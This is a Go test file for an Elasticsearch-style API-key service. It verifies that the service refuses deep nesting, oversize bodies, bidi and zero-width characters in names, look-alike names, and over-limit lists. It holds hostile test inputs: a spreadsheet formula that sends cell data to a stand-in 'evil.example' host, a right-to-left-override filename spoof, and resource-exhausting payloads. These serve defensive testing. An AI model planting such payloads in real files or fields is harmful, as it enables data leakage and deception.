package api_test

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/keyplane/keyplane/domain"
	"github.com/keyplane/keyplane/internal/testhttp"
)

// nestedJSON is JSON metadata n levels deep, the object itself the first:
// {"a":{"a":...{"a":"x"}...}}.
func nestedJSON(n int) string {
	return strings.Repeat(`{"a":`, n) + `"x"` + strings.Repeat(`}`, n)
}

// refusedFor checks an answer is a 400 whose reason names the limit.
func refusedFor(t *testing.T, r esResp, limit string) {
	t.Helper()
	errObj, _ := r.Body["error"].(map[string]any)
	reason, _ := errObj["reason"].(string)
	if r.Status != http.StatusBadRequest || !strings.Contains(reason, limit) {
		t.Fatalf("status %d, reason %q; want 400 naming %q: %.300s", r.Status, reason, limit, r.Raw)
	}
}

// Metadata and role descriptors nest at most 20 levels, wherever they
// enter: keys (console and Elasticsearch, create, update, bulk update,
// grant, bulk grant), realm users, roles and application privileges. 9,999
// levels (the stored event would be past encoding/json's 10,000, and
// unreadable) and 21 are refused with the limit named; 20 are taken. A
// project user with only manage_own_api_key meets the same limit.
func TestMetadataDeeperThan20LevelsIsRefused(t *testing.T) {
	a := startApp(t)
	owner := basic(ownerAuth)
	es := a.URL() + "/projects/default"
	esDo(t, "PUT", es+"/_security/role/own", owner, `{"cluster": ["manage_own_api_key"]}`).Must(t, 200)
	esDo(t, "PUT", es+"/_security/user/bob", owner, `{"password": "bob-password", "roles": ["own"]}`).Must(t, 200)
	bob := basic("bob:bob-password")
	consoleKey := testhttp.Do(t, "POST", a.URL()+"/api/v1/orgs/default/api-keys", `{"name": "console"}`,
		"Authorization", owner, "Content-Type", "application/json")
	esKey := esDo(t, "POST", es+"/_security/api_key", owner, `{"name": "es"}`).Must(t, 200)
	consoleID, _ := consoleKey.Body["id"].(string)
	grant := `"grant_type": "password", "username": "alice", "password": "alice-password"`

	type route struct {
		name, method, url, auth string
		body                    func(meta string) string
		ok                      int
	}
	routes := []route{
		{"console create", "POST", a.URL() + "/api/v1/orgs/default/api-keys", owner,
			func(m string) string { return `{"name": "k", "metadata": ` + m + `}` }, 201},
		{"console update", "PUT", a.URL() + "/api/v1/orgs/default/api-keys/" + consoleID, owner,
			func(m string) string { return `{"metadata": ` + m + `}` }, 200},
		{"es create", "POST", es + "/_security/api_key", owner,
			func(m string) string { return `{"name": "k", "metadata": ` + m + `}` }, 200},
		{"es create by a manage_own_api_key user", "POST", es + "/_security/api_key", bob,
			func(m string) string { return `{"name": "k", "metadata": ` + m + `}` }, 200},
		{"es create, role descriptor metadata", "POST", es + "/_security/api_key", bob,
			func(m string) string { return `{"name": "k", "role_descriptors": {"r": {"metadata": ` + m + `}}}` }, 200},
		{"es update", "PUT", es + "/_security/api_key/" + esKey.Str("id"), owner,
			func(m string) string { return `{"metadata": ` + m + `}` }, 200},
		{"es update, role descriptor metadata", "PUT", es + "/_security/api_key/" + esKey.Str("id"), owner,
			func(m string) string { return `{"role_descriptors": {"r": {"metadata": ` + m + `}}}` }, 200},
		{"es bulk update", "POST", es + "/_security/api_key/_bulk_update", owner,
			func(m string) string { return `{"ids": ["` + esKey.Str("id") + `"], "metadata": ` + m + `}` }, 200},
		{"es grant", "POST", es + "/_security/api_key/grant", owner,
			func(m string) string { return `{` + grant + `, "api_key": {"name": "g", "metadata": ` + m + `}}` }, 200},
		{"es bulk grant, role descriptor metadata", "POST", es + "/_security/api_key/_bulk_grant", owner,
			func(m string) string {
				return `{` + grant + `, "api_keys": [{"name": "g", "role_descriptors": {"r": {"metadata": ` + m + `}}}]}`
			}, 200},
		{"realm user", "PUT", es + "/_security/user/carol", owner,
			func(m string) string { return `{"password": "carol-password", "metadata": ` + m + `}` }, 200},
		{"realm role", "PUT", es + "/_security/role/deep", owner,
			func(m string) string { return `{"cluster": ["monitor"], "metadata": ` + m + `}` }, 200},
		{"realm role, transient metadata", "PUT", es + "/_security/role/deep2", owner,
			func(m string) string { return `{"transient_metadata": ` + m + `}` }, 200},
		{"application privileges", "PUT", es + "/_security/privilege", owner,
			func(m string) string { return `{"app": {"read": {"actions": ["data:read/*"], "metadata": ` + m + `}}}` }, 200},
	}
	for _, rt := range routes {
		t.Run(rt.name, func(t *testing.T) {
			for _, depth := range []int{9999, 21} {
				r := esDo(t, rt.method, rt.url, rt.auth, rt.body(nestedJSON(depth)))
				refusedFor(t, r, "limit of 20 levels")
			}
			esDo(t, rt.method, rt.url, rt.auth, rt.body(nestedJSON(20))).Must(t, rt.ok)
		})
	}
	// The log still reads: the keys list, the audit trail and the health
	// of the replica that answered.
	esDo(t, "GET", es+"/_security/api_key", owner, nil).Must(t, 200)
	esDo(t, "GET", a.URL()+"/api/v1/orgs/default/audit", owner, nil).Must(t, 200)
	esDo(t, "GET", a.URL()+"/healthz", "", nil).Must(t, 200)
}

// A role descriptor nests at most 20 levels below itself, whatever field
// nests (here a document-level security query).
func TestRoleDescriptorDeeperThan20LevelsIsRefused(t *testing.T) {
	a := startApp(t)
	owner := basic(ownerAuth)
	es := a.URL() + "/projects/default"
	// indices (1), its entry (2), query (3): 18 more make 21 below the descriptor.
	deepQuery := func(n int) string {
		return `{"indices": [{"names": ["i"], "privileges": ["read"], "query": ` + nestedJSON(n) + `}]}`
	}
	refusedFor(t, esDo(t, "PUT", es+"/_security/role/q", owner, deepQuery(19)), "limit of 20 levels below the descriptor")
	refusedFor(t, esDo(t, "POST", es+"/_security/api_key", owner, `{"name": "k", "role_descriptors": {"r": `+deepQuery(19)+`}}`),
		"limit of 20 levels below the descriptor")
	esDo(t, "PUT", es+"/_security/role/q", owner, deepQuery(18)).Must(t, 200)
	esDo(t, "POST", es+"/_security/api_key", owner, `{"name": "k", "role_descriptors": {"r": `+deepQuery(18)+`}}`).Must(t, 200)
}

// A body over the limit is answered 413 content_too_long_exception, as
// Elasticsearch answers it.
func TestOversizeBodyIs413ContentTooLong(t *testing.T) {
	a := startApp(t)
	owner := basic(ownerAuth)
	body := `{"name": "k", "metadata": {"pad": "` + strings.Repeat("x", domain.MaxBodyBytes) + `"}}`
	for _, url := range []string{a.URL() + "/projects/default/_security/api_key", a.URL() + "/api/v1/orgs/default/api-keys"} {
		r := esDo(t, "POST", url, owner, body)
		errObj, _ := r.Body["error"].(map[string]any)
		if r.Status != http.StatusRequestEntityTooLarge || errObj["type"] != "content_too_long_exception" {
			t.Fatalf("%s: status %d: %.300s; want 413 content_too_long_exception", url, r.Status, r.Raw)
		}
	}
}

// Names with control characters (C1 included), bidi overrides or
// zero-width characters are refused, for keys, organizations, projects and
// roles.
func TestNamesWithInvisibleOrControlCharactersAreRefused(t *testing.T) {
	a := startApp(t)
	owner := basic(ownerAuth)
	es := a.URL() + "/projects/default"
	for _, bad := range []string{
		"key\u0085name",     // NEL, a C1 control
		"key\u009bname",     // CSI, a C1 control
		"evil\u202egpj.exe", // right-to-left override
		"ad\u200bmin",       // zero-width space
		"\u2066name\u2069",  // isolates
		"bom\ufeff",         // zero-width no-break space
		"line\u2028break",   // line separator
	} {
		t.Run(fmt.Sprintf("%+q", bad), func(t *testing.T) {
			name := fmt.Sprintf("%q", bad) // JSON string literal of it
			for _, c := range []struct{ method, url, body string }{
				{"POST", a.URL() + "/api/v1/orgs/default/api-keys", `{"name": ` + name + `}`},
				{"POST", es + "/_security/api_key", `{"name": ` + name + `}`},
				{"POST", a.URL() + "/api/v1/orgs", `{"name": ` + name + `}`},
				{"POST", a.URL() + "/api/v1/orgs/default/projects", `{"name": ` + name + `}`},
				{"PUT", es + "/_security/user/dave", `{"password": "dave-password", "roles": [` + name + `]}`},
				{"POST", es + "/_security/api_key", `{"name": "k", "role_descriptors": {` + name + `: {}}}`},
			} {
				if r := esDo(t, c.method, c.url, owner, c.body); r.Status != http.StatusBadRequest {
					t.Fatalf("%s %s %s: status %d, want 400: %.300s", c.method, c.url, c.body, r.Status, r.Raw)
				}
			}
		})
	}
	// A realm role's name is in its path.
	if r := esDo(t, "PUT", es+"/_security/role/ro%E2%80%AEle", owner, `{}`); r.Status != http.StatusBadRequest {
		t.Fatalf("role named with a bidi override: status %d: %s", r.Status, r.Raw)
	}
}

// Organization and project names are unique after NFKC normalization: a
// fullwidth or ligature spelling of an existing name is a conflict.
func TestLookAlikeOrgAndProjectNamesConflict(t *testing.T) {
	a := startApp(t)
	owner := basic(ownerAuth)
	esDo(t, "POST", a.URL()+"/api/v1/orgs", owner, `{"name": "finance"}`).Must(t, 201)
	esDo(t, "POST", a.URL()+"/api/v1/orgs", owner, `{"name": "\ufb01nance"}`).Must(t, 409)                                             // "fi" ligature
	if r := esDo(t, "POST", a.URL()+"/api/v1/orgs", owner, `{"name": "ｆｉｎａｎｃｅ"}`).Must(t, 409); strings.Contains(r.Raw, "[finance]") { // fullwidth
		t.Fatalf("the conflict names the organization it is like, most likely another tenant's: %s", r.Raw)
	}
	esDo(t, "POST", a.URL()+"/api/v1/orgs", owner, `{"name": "\ufb01rm"}`).Must(t, 201) // a ligature first
	esDo(t, "POST", a.URL()+"/api/v1/orgs", owner, `{"name": "\ufb01rm"}`).Must(t, 409)
	esDo(t, "POST", a.URL()+"/api/v1/orgs", owner, `{"name": "firm"}`).Must(t, 409)
	esDo(t, "POST", a.URL()+"/api/v1/orgs/default/projects", owner, `{"name": "prod"}`).Must(t, 201)
	esDo(t, "POST", a.URL()+"/api/v1/orgs/default/projects", owner, `{"name": "ｐｒｏｄ"}`).Must(t, 409)
	esDo(t, "POST", a.URL()+"/api/v1/orgs/default/projects", owner, `{"name": "Prod"}`).Must(t, 201) // case is not folded
}

// A key name that a spreadsheet would read as a formula is escaped in the
// CSV download with a leading single quote.
func TestKeyNameStartingAFormulaIsEscapedInTheCSV(t *testing.T) {
	a := startApp(t)
	owner := basic(ownerAuth)
	for _, name := range []string{`=HYPERLINK("http://evil.example/?"&A2,"x")`, "+1+1", "-2+3", "@SUM(A1)", "plain"} {
		r := testhttp.Do(t, "POST", a.URL()+"/api/v1/orgs/default/api-keys", map[string]any{"name": name},
			"Authorization", owner, "Content-Type", "application/json", "Accept", "text/csv")
		if r.Status != http.StatusCreated {
			t.Fatalf("%q: status %d: %s", name, r.Status, r.Raw)
		}
		rows, err := csv.NewReader(strings.NewReader(r.Raw)).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("%q: csv %v: %s", name, err, r.Raw)
		}
		want := name
		if name != "plain" {
			want = "'" + name
		}
		if rows[1][1] != want {
			t.Fatalf("name cell %q, want %q", rows[1][1], want)
		}
	}
}

// Elasticsearch's restriction (which narrows a key to workflows),
// remote_indices, remote_cluster and global cannot be honoured: each is
// refused with 400, never silently dropped, for keys and roles.
func TestUnsupportedRoleDescriptorFieldsAreRefused(t *testing.T) {
	a := startApp(t)
	owner := basic(ownerAuth)
	es := a.URL() + "/projects/default"
	for field, value := range map[string]string{
		"restriction":    `{"workflows": ["search_application_query"]}`,
		"remote_indices": `[{"clusters": ["*"], "names": ["*"], "privileges": ["read"]}]`,
		"remote_cluster": `[{"clusters": ["*"], "privileges": ["monitor_enrich"]}]`,
		"global":         `{"application": {"manage": {"applications": ["*"]}}}`,
	} {
		rd := `{"cluster": ["all"], "` + field + `": ` + value + `}`
		refusedFor(t, esDo(t, "POST", es+"/_security/api_key", owner, `{"name": "k", "role_descriptors": {"r": `+rd+`}}`),
			"["+field+"] is not supported")
		refusedFor(t, esDo(t, "PUT", es+"/_security/role/r", owner, rd), "["+field+"] is not supported")
		refusedFor(t, esDo(t, "POST", a.URL()+"/api/v1/orgs/default/api-keys", owner,
			`{"name": "k", "role_descriptors": {"r": `+rd+`}}`), "["+field+"] is not supported")
	}
}

// A body within the limit whose event would not fit the log (the stream
// takes messages up to 1 MiB) is refused as too large, 413, rather than
// failing as an unavailable log.
func TestAChangeTooLargeToStoreIs413(t *testing.T) {
	a := startApp(t)
	owner := basic(ownerAuth)
	body := `{"name": "k", "metadata": {"pad": "` + strings.Repeat("x", domain.MaxBodyBytes-100) + `"}}`
	r := esDo(t, "POST", a.URL()+"/projects/default/_security/api_key", owner, body)
	errObj, _ := r.Body["error"].(map[string]any)
	reason, _ := errObj["reason"].(string)
	if r.Status != http.StatusRequestEntityTooLarge || errObj["type"] != "content_too_long_exception" || !strings.Contains(reason, "too large to store") {
		t.Fatalf("status %d: %.300s; want 413 content_too_long_exception, too large to store", r.Status, r.Raw)
	}
	if got := esDo(t, "GET", a.URL()+"/projects/default/_security/api_key?name=k", owner, nil).Must(t, 200); got.Raw != `{"api_keys":[]}`+"\n" {
		t.Fatalf("a refused key was stored: %.300s", got.Raw)
	}
}

// Role descriptors, _has_privileges and _query/api_key are bounded in
// counts and lengths (the matchers are linear in what they match, so these
// bound their cost); each refusal names its limit, and the limit itself is
// taken.
func TestCountsAndLengthsOverTheLimitsAreRefused(t *testing.T) {
	a := startApp(t)
	owner := basic(ownerAuth)
	es := a.URL() + "/projects/default"
	x := func(n int) string { return strings.Repeat("x", n) }
	list := func(n int, item string) string {
		return `["` + strings.TrimSuffix(strings.Repeat(item+`","`, n), `","`) + `"]`
	}
	descriptors := func(n int) string {
		var b strings.Builder
		for i := range n {
			if i > 0 {
				b.WriteString(",")
			}
			fmt.Fprintf(&b, `"r%d": {}`, i)
		}
		return "{" + b.String() + "}"
	}
	key := func(rds string) string { return `{"name": "k", "role_descriptors": ` + rds + `}` }
	role := func(field string) string {
		return `{"r": {"indices": [{"names": ` + field + `, "privileges": ["read"]}]}}`
	}
	hasPriv := es + "/_security/user/_has_privileges"
	clauses := func(n int) string {
		return "[" + strings.TrimSuffix(strings.Repeat(`{"wildcard": {"name": "*a*"}},`, n), ",") + "]"
	}
	query := es + "/_security/_query/api_key"
	for _, c := range []struct {
		name, method, url, over, at, limit string
	}{
		{"index pattern bytes", "POST", es + "/_security/api_key", key(role(`["` + x(256) + `"]`)), key(role(`["` + x(255) + `"]`)), "limit of 255"},
		{"index patterns per entry", "POST", es + "/_security/api_key", key(role(list(257, "i"))), key(role(list(256, "i"))), "limit of 256"},
		{"descriptors per key", "POST", es + "/_security/api_key", key(descriptors(65)), key(descriptors(64)), "limit of 64"},
		{"run_as entry bytes", "PUT", es + "/_security/role/r", `{"run_as": ["` + x(1025) + `"]}`, `{"run_as": ["` + x(1024) + `"]}`, "limit of 1024"},
		{"application name bytes", "PUT", es + "/_security/role/r",
			`{"applications": [{"application": "` + x(256) + `", "privileges": ["p"], "resources": ["*"]}]}`,
			`{"applications": [{"application": "` + x(255) + `", "privileges": ["p"], "resources": ["*"]}]}`, "limit of 255"},
		{"has_privileges index name bytes", "POST", hasPriv,
			`{"index": [{"names": ["` + x(256) + `"], "privileges": ["read"]}]}`, `{"index": [{"names": ["` + x(255) + `"], "privileges": ["read"]}]}`, "limit of 255"},
		{"has_privileges resources", "POST", hasPriv,
			`{"application": [{"application": "a", "privileges": ["p"], "resources": ` + list(257, "r") + `}]}`,
			`{"application": [{"application": "a", "privileges": ["p"], "resources": ` + list(256, "r") + `}]}`, "limit of 256"},
		{"has_privileges resource bytes", "POST", hasPriv,
			`{"application": [{"application": "a", "privileges": ["p"], "resources": ["` + x(1025) + `"]}]}`,
			`{"application": [{"application": "a", "privileges": ["p"], "resources": ["` + x(1024) + `"]}]}`, "limit of 1024"},
		{"wildcard query value", "POST", query, `{"query": {"wildcard": {"name": "` + x(1025) + `*"}}}`,
			`{"query": {"wildcard": {"name": "` + x(1023) + `*"}}}`, "limit of 1024"},
		{"prefix query value", "POST", query, `{"query": {"prefix": {"name": "` + x(1025) + `"}}}`,
			`{"query": {"prefix": {"name": "` + x(1024) + `"}}}`, "limit of 1024"},
		{"term query value", "POST", query, `{"query": {"term": {"metadata.a": "` + x(1025) + `"}}}`,
			`{"query": {"term": {"metadata.a": "` + x(1024) + `"}}}`, "limit of 1024"},
		// Each list is bounded; so is their product, which is the work.
		{"has_privileges checks in all", "POST", hasPriv,
			`{"application": [{"application": "a", "privileges": ` + list(65, "p") + `, "resources": ` + list(64, "r") + `}]}`,
			`{"application": [{"application": "a", "privileges": ` + list(64, "p") + `, "resources": ` + list(64, "r") + `}]}`, "limit of 4096"},
		{"has_privileges index checks in all", "POST", hasPriv,
			`{"index": [{"names": ` + list(256, "n") + `, "privileges": ` + list(16, "read") + `}, {"names": ["n"], "privileges": ["read"]}]}`,
			`{"index": [{"names": ` + list(256, "n") + `, "privileges": ` + list(16, "read") + `}]}`, "limit of 4096"},
		{"query clauses", "POST", query, `{"query": {"bool": {"should": ` + clauses(128) + `}}}`,
			`{"query": {"bool": {"should": ` + clauses(127) + `}}}`, "limit of 128"},
	} {
		t.Run(c.name, func(t *testing.T) {
			refusedFor(t, esDo(t, c.method, c.url, owner, c.over), c.limit)
			esDo(t, c.method, c.url, owner, c.at).Must(t, 200)
		})
	}
}

func TestFilterPathAndListFiltersOverTheLimitsAreRefused(t *testing.T) {
	a := startApp(t)
	owner := basic(ownerAuth)
	paths := func(n int) string { return strings.TrimSuffix(strings.Repeat("api_keys.name,", n), ",") }
	for _, c := range []struct{ name, over, at, limit string }{
		{"filter_path paths", "/_security/api_key?filter_path=" + paths(65), "/_security/api_key?filter_path=" + paths(64), "limit of 64"},
		{"filter_path path bytes", "/_security/api_key?filter_path=" + strings.Repeat("a", 257), "/_security/api_key?filter_path=" + strings.Repeat("a", 256), "limit of 256"},
		{"console name filter", "/api/v1/orgs/default/api-keys?name=" + strings.Repeat("*", 1025), "/api/v1/orgs/default/api-keys?name=" + strings.Repeat("*", 1024), "limit of 1024"},
		{"console owner filter", "/api/v1/orgs/default/api-keys?owner=" + strings.Repeat("a", 1025), "/api/v1/orgs/default/api-keys?owner=" + strings.Repeat("a", 1024), "limit of 1024"},
	} {
		t.Run(c.name, func(t *testing.T) {
			refusedFor(t, esDo(t, "GET", a.URL()+c.over, owner, nil), c.limit)
			esDo(t, "GET", a.URL()+c.at, owner, nil).Must(t, 200)
		})
	}
}

func TestANewLoginsFullNameIsBoundedLikeAName(t *testing.T) {
	a := startApp(t)
	owner := basic(ownerAuth)
	inv := esDo(t, "POST", a.URL()+"/api/v1/orgs/default/invitations", owner, `{"email": "fn@example.com", "role": "viewer"}`).Must(t, 201)
	accept := func(fullName string) esResp {
		body, _ := json.Marshal(map[string]any{"token": inv.Str("token"), "name": "fn", "password": "fn-password", "full_name": fullName})
		return esDo(t, "POST", a.URL()+"/api/v1/invitations/_accept", "", string(body))
	}
	for _, bad := range []string{"Ev\u202eil", strings.Repeat("x", 257), " padded"} {
		refusedFor(t, accept(bad), "full name")
	}
	accept("Fiona N.").Must(t, 200)
}

// An ApiKey credential that decodes to more than a credential may hold
// is refused 401, whatever its padding: unpadded, 343 characters decode
// to 257 bytes where padded ones of that length would make 255, and the
// decoder wrote past its buffer (a 500 for any caller).
func TestAnApiKeyCredentialLongerThanTheLimitIs401(t *testing.T) {
	a := startApp(t)
	for _, cred := range []string{strings.Repeat("0", 343), strings.Repeat("0", 344), strings.Repeat("A", 4096)} {
		r := esDo(t, "GET", a.URL()+"/projects/default/_security/api_key", "ApiKey "+cred, nil)
		if r.Status != http.StatusUnauthorized {
			t.Fatalf("credential of %d characters: status %d: %.300s; want 401", len(cred), r.Status, r.Raw)
		}
	}
}
